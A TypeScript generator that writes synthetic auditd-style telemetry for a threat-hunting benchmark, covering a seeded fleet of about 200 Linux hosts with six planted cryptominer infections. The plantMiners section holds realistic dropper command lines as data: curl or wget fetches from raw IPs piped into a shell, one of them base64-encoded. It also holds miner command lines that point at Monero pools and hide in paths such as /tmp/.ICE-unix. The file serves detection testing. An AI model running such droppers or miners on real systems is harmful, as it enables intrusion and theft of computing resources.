/**
 * Synthetic telemetry for the hunt benchmark: a seeded fleet of ~200 Linux hosts written as coalmine's
 * own normalised NDJSON, with a few planted miners so the engine does real correlation work. Same
 * seed and event count → the same bytes, on every machine.
 */
import { once } from 'node:events';
import { createWriteStream } from 'node:fs';
import { mkdir, rename } from 'node:fs/promises';
import { dirname } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { CoalEvent } from '../src/model/event.js';

export const DEFAULT_EVENTS = 1_000_000;
export const DEFAULT_SEED = 0x0c0a1;
/** Bumped whenever the output for a given seed changes, so cached files are regenerated. */
export const GENERATOR_VERSION = 1;

/** The telemetry rate per fleet-minute; the mix the issue asks for (40/25/30/5). */
const HOSTS = 200;
const EVENTS_PER_MINUTE = 2000;
const EXEC_PER_MINUTE = 800;
const CONNECT_PER_MINUTE = 500;
const OTHER_PER_MINUTE = 100;
/** Each host reports one host sample and its two busiest-looking processes every minute: 600 = 30%. */
const PROCESS_SAMPLES_PER_HOST = 2;
/** Share of events whose timestamp is pulled back a little: collectors flush late, clocks drift. */
const JITTER_SHARE = 0.03;
const JITTER_MAX_MS = 40_000;
const START_MS = Date.UTC(2026, 2, 2, 6, 0, 0);

/** mulberry32: tiny, fast and good enough for test data; the seed fixes every choice below. */
export function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export interface GenerateOptions {
  events: number;
  seed: number;
  path: string;
}

export interface PlantedMiner {
  host: string;
  pid: number;
  executable: string;
  /** When the miner was launched (ISO); it runs to the end of the data. */
  start: string;
}

export interface GenerateResult {
  events: number;
  bytes: number;
  hosts: number;
  /** Distinct host/pid pairs that appear in the data. */
  processes: number;
  spanMinutes: number;
  mix: Record<string, number>;
  miners: PlantedMiner[];
}

interface Service {
  pid: number;
  name: string;
  executable: string;
  commandLine: string;
  user: string;
  /** Typical CPU, percent of one core, and how much it wanders. */
  cpuPct: number;
  cpuNoise: number;
  memPct: number;
  /** Where it connects: [ip, port] pairs; empty for services that only listen. */
  peers: Array<[string, number]>;
  /** Commands it spawns, if any (workers, build steps). */
  spawns: Command[];
}

interface Command {
  name: string;
  executable: string;
  /** Argument templates; `#` becomes a number, `@` a word, so lines vary like real ones. */
  args: string[];
  user: string;
}

interface Host {
  name: string;
  cores: number;
  memBase: number;
  services: Service[];
  shellPid: number;
  nextPid: number;
  /** Recent short-lived pids, the targets of ordinary kills. */
  recentPids: number[];
  miner?: Miner;
}

interface Miner extends PlantedMiner {
  startMinute: number;
  name: string;
  commandLine: string;
  poolName: string;
  poolIp: string;
  parentPid: number;
  dropper: string;
  user: string;
  nextConnectMinute: number;
}

interface Pending {
  t: number;
  event: CoalEvent;
}

const WORDS = [
  'alpha',
  'orders',
  'billing',
  'invoice',
  'report',
  'users',
  'session',
  'cache',
  'assets',
  'thumbs',
  'export',
  'sync',
  'daily',
  'metrics',
  'search',
  'index',
];

const BASE58 = '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz';

const cmd = (name: string, executable: string, user: string, ...args: string[]): Command => ({
  name,
  executable,
  args,
  user,
});

const SHELL_COMMANDS: Command[] = [
  cmd('ls', '/usr/bin/ls', 'deploy', '-la /var/www/@', '-lh /var/log', '/srv/@/releases'),
  cmd('ps', '/usr/bin/ps', 'deploy', 'aux', '-ef', 'aux --sort=-%cpu'),
  cmd('grep', '/usr/bin/grep', 'deploy', '-r @ /etc/nginx', '-c ERROR /var/log/@.log', '-i timeout /var/log/syslog'),
  cmd('df', '/usr/bin/df', 'deploy', '-h', '-i'),
  cmd('git', '/usr/bin/git', 'deploy', 'pull --ff-only', 'status', 'log -n #', 'fetch origin'),
  cmd('systemctl', '/usr/bin/systemctl', 'root', 'status nginx', 'restart @-worker', 'is-active postgresql'),
  cmd('journalctl', '/usr/bin/journalctl', 'root', '-u nginx --since -#m', '-p err -n #'),
  cmd('tail', '/usr/bin/tail', 'deploy', '-n # /var/log/@.log', '-f /var/log/nginx/error.log'),
  cmd('cat', '/usr/bin/cat', 'deploy', '/etc/os-release', '/proc/meminfo', '/srv/@/config.yml'),
  cmd('sudo', '/usr/bin/sudo', 'deploy', 'systemctl reload nginx', '-u postgres psql -c "select #"'),
];

const CRON_COMMANDS: Command[] = [
  cmd(
    'sh',
    '/bin/sh',
    'root',
    '-c /usr/local/bin/backup-@.sh',
    '-c "test -x /usr/sbin/anacron || run-parts /etc/cron.daily"',
  ),
  cmd('logrotate', '/usr/sbin/logrotate', 'root', '/etc/logrotate.conf'),
  cmd('run-parts', '/usr/bin/run-parts', 'root', '--report /etc/cron.hourly'),
  cmd('find', '/usr/bin/find', 'root', '/tmp -type f -mtime +# -delete', '/var/cache/@ -name "*.tmp" -delete'),
  cmd('certbot', '/usr/bin/certbot', 'root', 'renew --quiet'),
];

const ROLE_SPAWNS: Record<string, Command[]> = {
  web: [
    cmd('php', '/usr/bin/php8.2', 'www-data', '/var/www/@/artisan queue:work --once', '/var/www/@/cron.php'),
    cmd(
      'curl',
      '/usr/bin/curl',
      'www-data',
      '-s -o /dev/null http://127.0.0.1:#/health',
      '-fsS http://10.0.#.#:8080/status',
    ),
  ],
  db: [
    cmd('pg_dump', '/usr/lib/postgresql/16/bin/pg_dump', 'postgres', '-Fc -f /backup/@-#.dump @'),
    cmd('psql', '/usr/lib/postgresql/16/bin/psql', 'postgres', '-c "vacuum analyze @"', '-d @ -f /srv/sql/@.sql'),
  ],
  worker: [
    cmd('convert', '/usr/bin/convert', 'app', '/srv/media/@-#.png -resize #x# /srv/thumbs/@-#.webp'),
    cmd('python3', '/usr/bin/python3.11', 'app', '-m app.tasks.@ --batch #', '/srv/app/manage.py @ --limit #'),
  ],
  ci: [
    cmd('make', '/usr/bin/make', 'gitlab-runner', '-j# all', '-C build/@ test'),
    cmd('cc1plus', '/usr/lib/gcc/x86_64-linux-gnu/12/cc1plus', 'gitlab-runner', '-quiet -O2 src/@/#.cpp -o /tmp/cc#.s'),
    cmd(
      'node',
      '/usr/bin/node',
      'gitlab-runner',
      'node_modules/.bin/tsc -p @',
      'node_modules/.bin/jest --ci --shard=#/8',
    ),
    cmd('git', '/usr/bin/git', 'gitlab-runner', 'clone --depth # https://gitlab.internal/@/@.git', 'checkout -f @'),
  ],
  ml: [
    cmd('python3', '/opt/conda/bin/python3', 'ml', 'eval.py --ckpt runs/@/#.pt', 'prep.py --shard #'),
    cmd('nvidia-smi', '/usr/bin/nvidia-smi', 'ml', '--query-gpu=utilization.gpu --format=csv'),
  ],
  cache: [cmd('redis-cli', '/usr/bin/redis-cli', 'redis', 'info memory', '--scan --pattern @:*', 'bgsave')],
};

const ROLES = ['web', 'web', 'web', 'db', 'worker', 'worker', 'ci', 'ml', 'cache'] as const;
type Role = (typeof ROLES)[number];

const PUBLIC_PEERS: Array<[string, number]> = [
  ['151.101.1.69', 443],
  ['140.82.112.4', 443],
  ['104.16.132.229', 443],
  ['52.216.8.187', 443],
  ['91.189.91.83', 80],
  ['185.125.190.36', 443],
];
const DNS_NAMES: Array<[string, string]> = [
  ['api.github.com', '140.82.112.6'],
  ['registry.npmjs.org', '104.16.24.34'],
  ['deb.debian.org', '151.101.2.132'],
  ['s3.eu-west-1.amazonaws.com', '52.218.104.91'],
  ['sentry.internal', '10.0.9.20'],
  ['db-primary.internal', '10.0.3.10'],
];
const POOLS: Array<[string, string]> = [
  ['pool.supportxmr.com', '141.95.72.60'],
  ['xmr-eu1.nanopool.org', '51.83.33.228'],
  ['gulf.moneroocean.stream', '18.210.126.40'],
  ['pool.hashvault.pro', '131.153.76.130'],
  ['xmr.2miners.com', '162.19.139.184'],
  ['auto.c3pool.org', '45.125.1.69'],
];

function service(
  pid: number,
  name: string,
  executable: string,
  commandLine: string,
  user: string,
  cpu: [number, number, number],
  peers: Array<[string, number]> = [],
  spawns: Command[] = [],
): Service {
  return {
    pid,
    name,
    executable,
    commandLine,
    user,
    cpuPct: cpu[0],
    cpuNoise: cpu[1],
    memPct: cpu[2],
    peers,
    spawns,
  };
}

class Fleet {
  readonly hosts: Host[] = [];
  readonly processes = new Set<string>();
  readonly mix: Record<string, number> = {};
  private line = 0;

  constructor(
    readonly rand: () => number,
    readonly minutes: number,
  ) {
    for (let i = 0; i < HOSTS; i++) this.hosts.push(this.makeHost(i));
    this.plantMiners();
  }

  int(lo: number, hi: number): number {
    return lo + Math.floor(this.rand() * (hi - lo + 1));
  }

  pick<T>(list: readonly T[]): T {
    return list[Math.floor(this.rand() * list.length)];
  }

  private internalIp(): string {
    return `10.0.${this.int(0, 15)}.${this.int(2, 254)}`;
  }

  private makeHost(i: number): Host {
    const role: Role = ROLES[i % ROLES.length];
    const name = `${role}-${String(i + 1).padStart(3, '0')}`;
    const cores = this.pick([4, 8, 8, 16, 16, 32]);
    let pid = this.int(300, 900);
    const next = () => {
      pid += this.int(1, 40);
      return pid;
    };
    const services: Service[] = [
      service(1, 'systemd', '/usr/lib/systemd/systemd', '/sbin/init', 'root', [0.2, 0.2, 0.3]),
      service(
        next(),
        'systemd-journald',
        '/usr/lib/systemd/systemd-journald',
        '/lib/systemd/systemd-journald',
        'root',
        [1, 1, 0.8],
      ),
      service(next(), 'cron', '/usr/sbin/cron', '/usr/sbin/cron -f', 'root', [0.1, 0.1, 0.1], [], CRON_COMMANDS),
      service(
        next(),
        'sshd',
        '/usr/sbin/sshd',
        'sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups',
        'root',
        [0.1, 0.2, 0.2],
      ),
      service(
        next(),
        'rsyslogd',
        '/usr/sbin/rsyslogd',
        '/usr/sbin/rsyslogd -n -iNONE',
        'syslog',
        [0.5, 0.5, 0.3],
        [['10.0.9.30', 514]],
      ),
      service(
        next(),
        'chronyd',
        '/usr/sbin/chronyd',
        '/usr/sbin/chronyd -F 1',
        '_chrony',
        [0.1, 0.1, 0.1],
        [['162.159.200.1', 123]],
      ),
      service(
        next(),
        'node_exporter',
        '/usr/local/bin/node_exporter',
        '/usr/local/bin/node_exporter --collector.systemd',
        'prometheus',
        [1, 1, 0.4],
      ),
      service(next(), 'containerd', '/usr/bin/containerd', '/usr/bin/containerd', 'root', [1.5, 1, 1.2]),
      service(
        next(),
        'dockerd',
        '/usr/bin/dockerd',
        '/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock',
        'root',
        [1, 1, 1.5],
        PUBLIC_PEERS.slice(2, 4),
      ),
      service(next(), 'auditd', '/usr/sbin/auditd', '/sbin/auditd', 'root', [0.8, 0.5, 0.2], [['10.0.9.31', 60]]),
    ];
    const db = this.internalIp();
    const cache = this.internalIp();
    switch (role) {
      case 'web':
        services.push(
          service(
            next(),
            'nginx',
            '/usr/sbin/nginx',
            'nginx: master process /usr/sbin/nginx -g daemon on; master_process on;',
            'root',
            [0.5, 0.5, 0.4],
          ),
          service(
            next(),
            'nginx',
            '/usr/sbin/nginx',
            'nginx: worker process',
            'www-data',
            [12, 10, 0.8],
            [[this.internalIp(), 8080]],
          ),
          service(
            next(),
            'php-fpm8.2',
            '/usr/sbin/php-fpm8.2',
            'php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)',
            'root',
            [25, 20, 6],
            [[db, 5432], [cache, 6379], ...PUBLIC_PEERS.slice(0, 2)],
            ROLE_SPAWNS.web,
          ),
          service(
            next(),
            'node',
            '/usr/bin/node',
            'node /srv/storefront/server.js --port 8080',
            'app',
            [30, 25, 8],
            [
              [db, 5432],
              [cache, 6379],
            ],
          ),
        );
        break;
      case 'db':
        services.push(
          service(
            next(),
            'postgres',
            '/usr/lib/postgresql/16/bin/postgres',
            '/usr/lib/postgresql/16/bin/postgres -D /var/lib/postgresql/16/main -c config_file=/etc/postgresql/16/main/postgresql.conf',
            'postgres',
            [60, 50, 35],
            [],
            ROLE_SPAWNS.db,
          ),
          service(
            next(),
            'postgres',
            '/usr/lib/postgresql/16/bin/postgres',
            'postgres: 16/main: walwriter',
            'postgres',
            [3, 2, 2],
            [[this.internalIp(), 5432]],
          ),
          service(
            next(),
            'pgbouncer',
            '/usr/sbin/pgbouncer',
            '/usr/sbin/pgbouncer /etc/pgbouncer/pgbouncer.ini',
            'postgres',
            [5, 4, 1],
            [[db, 5432]],
          ),
        );
        break;
      case 'worker':
        services.push(
          service(
            next(),
            'celery',
            '/srv/app/venv/bin/python3',
            '/srv/app/venv/bin/python3 -m celery -A app worker -Q default,media -c 8',
            'app',
            [70, 60, 12],
            [[db, 5432], [cache, 6379], ...PUBLIC_PEERS.slice(3, 6)],
            ROLE_SPAWNS.worker,
          ),
          service(
            next(),
            'java',
            '/usr/lib/jvm/java-17-openjdk-amd64/bin/java',
            'java -Xms2g -Xmx6g -jar /opt/ingest/ingest-service.jar --spring.profiles.active=prod',
            'app',
            [90, 70, 30],
            [
              [db, 5432],
              [this.internalIp(), 9092],
            ],
          ),
        );
        break;
      case 'ci':
        services.push(
          service(
            next(),
            'gitlab-runner',
            '/usr/bin/gitlab-runner',
            '/usr/bin/gitlab-runner run --working-directory /home/gitlab-runner --config /etc/gitlab-runner/config.toml',
            'root',
            [2, 2, 1],
            [['10.0.9.40', 443], ...PUBLIC_PEERS.slice(0, 3)],
            ROLE_SPAWNS.ci,
          ),
          // builds: heavy, legitimate, and exactly what must not alert on CPU alone
          service(
            next(),
            'cc1plus',
            '/usr/lib/gcc/x86_64-linux-gnu/12/cc1plus',
            '/usr/lib/gcc/x86_64-linux-gnu/12/cc1plus -quiet -O2 -j8 src/engine/all.cpp',
            'gitlab-runner',
            [300, 150, 10],
          ),
        );
        break;
      case 'ml':
        services.push(
          service(
            next(),
            'python3',
            '/opt/conda/bin/python3',
            '/opt/conda/bin/python3 train.py --config configs/resnet50.yaml --epochs 90 --workers 12',
            'ml',
            [380, 40, 45],
            [
              ['10.0.9.50', 2049],
              ['52.218.104.91', 443],
            ],
            ROLE_SPAWNS.ml,
          ),
          service(
            next(),
            'ffmpeg',
            '/usr/bin/ffmpeg',
            '/usr/bin/ffmpeg -i /data/in/lecture-042.mkv -c:v libx264 -preset slow -crf 20 /data/out/lecture-042.mp4',
            'ml',
            [250, 80, 5],
          ),
        );
        break;
      case 'cache':
        services.push(
          service(
            next(),
            'redis-server',
            '/usr/bin/redis-server',
            '/usr/bin/redis-server 0.0.0.0:6379',
            'redis',
            [8, 6, 25],
            [[this.internalIp(), 6379]],
            ROLE_SPAWNS.cache,
          ),
          service(
            next(),
            'memcached',
            '/usr/bin/memcached',
            '/usr/bin/memcached -m 4096 -p 11211 -u memcache',
            'memcache',
            [4, 3, 20],
          ),
        );
        break;
    }
    return {
      name,
      cores,
      memBase: this.int(15, 45),
      services,
      shellPid: next(),
      nextPid: pid + 100,
      recentPids: [],
    };
  }

  private plantMiners(): void {
    const variants: Array<{
      host: number;
      exe: string;
      args: (pool: string, wallet: string) => string;
      dropper: string;
    }> = [
      {
        host: 8, // cache-009: an exposed redis is the classic way in
        exe: '/tmp/.ICE-unix/xmrig',
        args: (p, w) => `-o stratum+tcp://${p}:3333 -u ${w} -p x -k --donate-level=1 -B`,
        dropper: '/bin/sh -c curl -fsSL http://194.38.20.199/d.sh | sh',
      },
      {
        host: 23, // worker-024
        exe: '/dev/shm/.x/kworkerds',
        args: (p, w) => `--url=stratum+tcp://${p}:3333 --user=${w} --pass=w24 --cpu-max-threads-hint=95 --background`,
        dropper: '/bin/bash -c wget -q -O- http://45.9.148.99/x.sh | bash',
      },
      {
        host: 57, // db-058
        exe: '/tmp/.font-unix/systemd-resolve',
        args: (p, w) => `-o stratum+tcp://${p}:3333 -u ${w}.web58 -p x --randomx-1gb-pages -t 4`,
        dropper: '/bin/sh -c (curl -s http://91.241.19.134/s.sh||wget -q -O- http://91.241.19.134/s.sh)|sh',
      },
      {
        host: 96, // ci-097
        exe: '/var/tmp/.cache/xmrig',
        args: (p, w) => `--url=stratum+tcp://${p}:3333 --user=${w} --threads=4 --no-color --log-file=/dev/null`,
        dropper: '/bin/sh -c echo Y3VybCAtcyBodHRwOi8vMTk0LjM4LjIwLjE5OS9jaS5zaA== | base64 -d | sh',
      },
      {
        host: 133, // ml-134: a miner hiding beside a legitimately busy trainer
        exe: '/tmp/.X11-unix/.rsync/tsm64',
        args: (p, w) => `-o stratum+tcp://${p}:3333 -u ${w} -p ml134 --cpu-priority=0 --max-cpu-usage=95`,
        dropper: '/bin/bash -c cd /tmp/.X11-unix && curl -O http://45.9.148.99/rsync.tgz && tar xzf rsync.tgz',
      },
      {
        host: 171, // web-172
        exe: '/tmp/kdevtmpfsi',
        args: (p, w) => `-o stratum+tcp://${p}:3333 -u ${w} -p x --tls=false --donate-level 0`,
        dropper: '/bin/sh -c wget -q -O /tmp/kdevtmpfsi http://194.87.102.77/kdevtmpfsi && chmod +x /tmp/kdevtmpfsi',
      },
    ];
    variants.forEach((v, i) => {
      const host = this.hosts[v.host];
      const [poolName, poolIp] = POOLS[i % POOLS.length];
      let wallet = '4';
      while (wallet.length < 95) wallet += BASE58[this.int(0, BASE58.length - 1)];
      const startMinute = Math.max(2, Math.floor(this.minutes * (0.05 + 0.13 * i)));
      const parent = host.services.find((s) => s.spawns.length > 0 && s.name !== 'cron') ?? host.services[2];
      const name = v.exe.slice(v.exe.lastIndexOf('/') + 1);
      host.miner = {
        host: host.name,
        pid: 0, // allocated at launch, from the host's own pid sequence
        executable: v.exe,
        name,
        start: new Date(START_MS + startMinute * 60_000).toISOString(),
        startMinute,
        commandLine: `${v.exe} ${v.args(poolName, wallet)}`,
        poolName,
        poolIp,
        parentPid: parent.pid,
        dropper: v.dropper,
        user: parent.user,
        nextConnectMinute: startMinute + 1,
      };
    });
  }

  /** One minute of the fleet's telemetry, sorted by time, a few events pulled back. */
  minute(m: number, count: number): Pending[] {
    const base = START_MS + m * 60_000;
    const out: Pending[] = [];
    const at = () => base + Math.floor(this.rand() * 60_000);
    // scheduled samples first, so a truncated last minute still keeps the mix close
    for (const host of this.hosts) this.samples(host, m, base + this.int(0, 2000), out);
    for (let i = 0; i < EXEC_PER_MINUTE; i++) this.exec(this.pick(this.hosts), at(), out);
    for (let i = 0; i < CONNECT_PER_MINUTE; i++) this.connect(this.pick(this.hosts), at(), out);
    for (let i = 0; i < OTHER_PER_MINUTE; i++) this.other(this.pick(this.hosts), at(), out);
    for (const host of this.hosts) if (host.miner) this.minerActivity(host, host.miner, m, base, out);
    out.sort((a, b) => a.t - b.t);
    if (out.length > count) out.length = count;
    for (const p of out) {
      if (this.rand() < JITTER_SHARE) {
        const t = p.t - Math.floor(this.rand() * JITTER_MAX_MS);
        p.event['@timestamp'] = new Date(t).toISOString();
        p.event.coalmine.ts = t;
      }
    }
    return out;
  }

  /** Serialise with the line number the event will have in the file. */
  serialise(p: Pending): string {
    this.line++;
    p.event.coalmine.ref.line = this.line;
    this.mix[p.event.event.action] = (this.mix[p.event.event.action] ?? 0) + 1;
    const proc = p.event.process;
    if (proc?.pid !== undefined) this.processes.add(`${p.event.host?.name}|${proc.pid}`);
    return JSON.stringify(p.event);
  }

  private event(
    host: Host,
    t: number,
    head: Pick<CoalEvent, 'event'> & Partial<CoalEvent>,
    out: Pending[],
    kind: CoalEvent['event']['kind'] = 'event',
  ): void {
    const { event: what, ...fields } = head;
    const event: CoalEvent = {
      '@timestamp': new Date(t).toISOString(),
      event: { ...what, kind },
      host: { name: host.name, os: { platform: 'linux' } },
      ...fields,
      original: {},
      coalmine: { ts: t, format: 'ndjson', ref: { file: 'gen', line: 0 } },
    };
    out.push({ t, event });
  }

  private cpuOf(s: Service): number {
    const v = s.cpuPct + (this.rand() * 2 - 1) * s.cpuNoise;
    return Math.round(Math.max(0, v) * 10) / 10;
  }

  private samples(host: Host, m: number, t: number, out: Pending[]): void {
    const miner = host.miner && m > host.miner.startMinute ? host.miner : undefined;
    const cpus = host.services.map((s) => this.cpuOf(s));
    let total = cpus.reduce((a, b) => a + b, 0);
    const minerPct = miner ? Math.round((385 + this.rand() * 10) * 10) / 10 : 0;
    total += minerPct;
    const hostPct = Math.min(100, total / host.cores + 2 + this.rand() * 3);
    this.event(
      host,
      t,
      {
        event: { kind: 'metric', category: ['host'], action: 'metric', dataset: 'metrics.host' },
        metrics: { cpu_pct: Math.round(hostPct * 10) / 10, mem_pct: host.memBase + this.int(0, 5), cores: host.cores },
      },
      out,
      'metric',
    );
    // the collector reports top processes: the busiest one (the miner, when there is one) and one other
    let busiest = 0;
    for (let i = 1; i < cpus.length; i++) if (cpus[i] > cpus[busiest]) busiest = i;
    const picks: Array<{ pid: number; name: string; cpu: number; mem: number }> = [];
    if (miner) picks.push({ pid: miner.pid, name: miner.name, cpu: minerPct, mem: 3.1 });
    else
      picks.push({
        pid: host.services[busiest].pid,
        name: host.services[busiest].name,
        cpu: cpus[busiest],
        mem: host.services[busiest].memPct,
      });
    while (picks.length < PROCESS_SAMPLES_PER_HOST) {
      const i = this.int(0, host.services.length - 1);
      const s = host.services[i];
      picks.push({ pid: s.pid, name: s.name, cpu: cpus[i], mem: s.memPct });
    }
    for (const p of picks)
      this.event(
        host,
        t + 1,
        {
          event: { kind: 'metric', category: ['process'], action: 'metric', dataset: 'metrics.process' },
          process: { pid: p.pid, name: p.name },
          metrics: { cpu_pct: p.cpu, mem_pct: p.mem },
        },
        out,
        'metric',
      );
  }

  private fill(template: string): string {
    let s = '';
    for (const ch of template) {
      if (ch === '#') s += String(this.int(1, 4096));
      else if (ch === '@') s += this.pick(WORDS);
      else s += ch;
    }
    return s;
  }

  private exec(host: Host, t: number, out: Pending[]): void {
    const r = this.rand();
    let parentPid: number;
    let command: Command;
    if (r < 0.45) {
      const spawners = host.services.filter((s) => s.spawns.length > 0 && s.name !== 'cron');
      const parent = spawners.length > 0 ? this.pick(spawners) : host.services[2];
      parentPid = parent.pid;
      command = this.pick(parent.spawns.length > 0 ? parent.spawns : CRON_COMMANDS);
    } else if (r < 0.7) {
      parentPid = host.services[2].pid; // cron
      command = this.pick(CRON_COMMANDS);
    } else {
      if (this.rand() < 0.02) host.shellPid = this.newPid(host); // a new login session now and then
      parentPid = host.shellPid;
      command = this.pick(SHELL_COMMANDS);
    }
    const pid = this.newPid(host);
    const commandLine = `${command.name} ${this.fill(this.pick(command.args))}`;
    host.recentPids[pid % 8] = pid;
    this.event(
      host,
      t,
      {
        event: { kind: 'event', category: ['process'], type: ['start'], action: 'exec', dataset: 'auditd.execve' },
        process: {
          pid,
          name: command.name,
          executable: command.executable,
          command_line: commandLine,
          parent: { pid: parentPid },
          user: { name: command.user },
        },
      },
      out,
    );
  }

  private newPid(host: Host): number {
    host.nextPid += this.int(1, 6);
    if (host.nextPid > 4_194_000) host.nextPid = 1000;
    return host.nextPid;
  }

  private connect(host: Host, t: number, out: Pending[]): void {
    const talkers = host.services.filter((s) => s.peers.length > 0);
    const s = this.pick(talkers);
    const [ip, port] = this.pick(s.peers);
    this.event(
      host,
      t,
      {
        event: {
          kind: 'event',
          category: ['network'],
          type: ['connection', 'start'],
          action: 'connect',
          dataset: 'auditd.connect',
        },
        process: { pid: s.pid, name: s.name, executable: s.executable },
        destination: { ip, port },
        network: { transport: 'tcp', direction: 'outbound' },
      },
      out,
    );
  }

  private other(host: Host, t: number, out: Pending[]): void {
    const r = this.rand();
    const s = this.pick(host.services);
    if (r < 0.5) {
      const [name, ip] = this.pick(DNS_NAMES);
      this.event(
        host,
        t,
        {
          event: { kind: 'event', category: ['network'], type: ['info'], action: 'dns-query', dataset: 'auditd.dns' },
          process: { pid: s.pid, name: s.name, executable: s.executable },
          dns: { question: { name }, resolved_ip: [ip] },
        },
        out,
      );
    } else if (r < 0.85) {
      this.event(
        host,
        t,
        {
          event: { kind: 'event', category: ['file'], type: ['change'], action: 'file-write', dataset: 'auditd.path' },
          process: { pid: s.pid, name: s.name, executable: s.executable },
          file: { path: `/var/log/${s.name}/${this.pick(WORDS)}.log` },
        },
        out,
      );
    } else {
      // systemd and shells end short-lived helpers: ordinary kills that must not look like rivalry
      const slot = this.int(0, 7);
      const victimPid = host.recentPids[slot] ?? host.services[3].pid;
      this.event(
        host,
        t,
        {
          event: { kind: 'event', category: ['process'], type: ['end'], action: 'kill', dataset: 'auditd.kill' },
          process: {
            pid: 1,
            name: 'systemd',
            executable: '/usr/lib/systemd/systemd',
            target: { pid: victimPid, signal: 15 },
          },
        },
        out,
      );
    }
  }

  private minerActivity(host: Host, miner: Miner, m: number, base: number, out: Pending[]): void {
    if (m === miner.startMinute) {
      const dropperPid = this.newPid(host);
      miner.pid = this.newPid(host);
      const sh = miner.dropper.split(' ')[0];
      const shName = sh.slice(sh.lastIndexOf('/') + 1);
      this.event(
        host,
        base + 10_000,
        {
          event: { kind: 'event', category: ['process'], type: ['start'], action: 'exec', dataset: 'auditd.execve' },
          process: {
            pid: dropperPid,
            name: shName,
            executable: sh,
            command_line: miner.dropper,
            parent: { pid: miner.parentPid },
            user: { name: miner.user },
          },
        },
        out,
      );
      this.event(
        host,
        base + 12_500,
        {
          event: {
            kind: 'event',
            category: ['file'],
            type: ['creation'],
            action: 'file-write',
            dataset: 'auditd.path',
          },
          process: { pid: dropperPid, name: shName, executable: sh },
          file: { path: miner.executable },
        },
        out,
      );
      this.event(
        host,
        base + 14_000,
        {
          event: { kind: 'event', category: ['process'], type: ['start'], action: 'exec', dataset: 'auditd.execve' },
          process: {
            pid: miner.pid,
            name: miner.name,
            executable: miner.executable,
            command_line: miner.commandLine,
            parent: { pid: dropperPid },
            user: { name: miner.user },
          },
        },
        out,
      );
      this.event(
        host,
        base + 14_200,
        {
          event: { kind: 'event', category: ['network'], type: ['info'], action: 'dns-query', dataset: 'auditd.dns' },
          process: { pid: miner.pid, name: miner.name, executable: miner.executable },
          dns: { question: { name: miner.poolName }, resolved_ip: [miner.poolIp] },
        },
        out,
      );
    }
    if (m === miner.nextConnectMinute) {
      // miners hold one pool connection and reconnect when it drops
      miner.nextConnectMinute = m + this.int(10, 40);
      this.event(
        host,
        base + this.int(0, 59_000),
        {
          event: {
            kind: 'event',
            category: ['network'],
            type: ['connection', 'start'],
            action: 'connect',
            dataset: 'auditd.connect',
          },
          process: { pid: miner.pid, name: miner.name, executable: miner.executable },
          destination: { ip: miner.poolIp, port: 3333 },
          network: { transport: 'tcp', direction: 'outbound' },
        },
        out,
      );
    }
  }
}

/** Write `options.events` events to `options.path` (via a temporary file, so a half-written file is never reused). */
export async function generateEvents(options: GenerateOptions): Promise<GenerateResult> {
  const minutes = Math.ceil(options.events / EVENTS_PER_MINUTE);
  const fleet = new Fleet(mulberry32(options.seed), minutes);
  await mkdir(dirname(options.path), { recursive: true });
  const tmp = `${options.path}.tmp`;
  const stream = createWriteStream(tmp);
  let written = 0;
  let bytes = 0;
  for (let m = 0; written < options.events; m++) {
    const batch = fleet.minute(m, options.events - written);
    let text = '';
    for (const p of batch) text += `${fleet.serialise(p)}\n`;
    written += batch.length;
    bytes += Buffer.byteLength(text);
    if (!stream.write(text)) await once(stream, 'drain');
  }
  stream.end();
  await once(stream, 'finish');
  await rename(tmp, options.path);
  return {
    events: written,
    bytes,
    hosts: fleet.hosts.length,
    processes: fleet.processes.size,
    spanMinutes: minutes,
    mix: fleet.mix,
    miners: fleet.hosts
      .filter((h) => h.miner && Date.parse(h.miner.start) < START_MS + minutes * 60_000)
      .map((h) => {
        const { host, pid, executable, start } = h.miner!;
        return { host, pid, executable, start };
      }),
  };
}

function flag(args: string[], name: string): string | undefined {
  const i = args.indexOf(name);
  return i >= 0 ? args[i + 1] : undefined;
}

async function main(): Promise<void> {
  const args = process.argv.slice(2);
  const events = Number(flag(args, '--events') ?? DEFAULT_EVENTS);
  const seed = Number(flag(args, '--seed') ?? DEFAULT_SEED);
  const path = flag(args, '--out') ?? 'bench/results/.work/events.ndjson';
  if (!Number.isInteger(events) || events < 1 || !Number.isInteger(seed)) {
    console.error('usage: node --import tsx bench/generate.ts [--events N] [--seed S] [--out PATH]');
    process.exit(2);
  }
  const result = await generateEvents({ events, seed, path });
  console.log(JSON.stringify(result, null, 2));
}

if (process.argv[1] && import.meta.url === pathToFileURL(process.argv[1]).href) await main();
